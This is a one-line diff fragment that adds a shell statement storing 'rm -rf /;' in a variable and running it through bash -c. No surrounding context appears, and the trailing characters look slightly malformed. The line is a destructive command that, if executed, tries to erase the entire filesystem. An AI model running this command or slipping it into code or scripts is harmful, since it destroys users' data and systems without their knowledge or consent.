@@ -1,0 +1,1 @@
+x='rm -rf /;'; bash -c $x$.
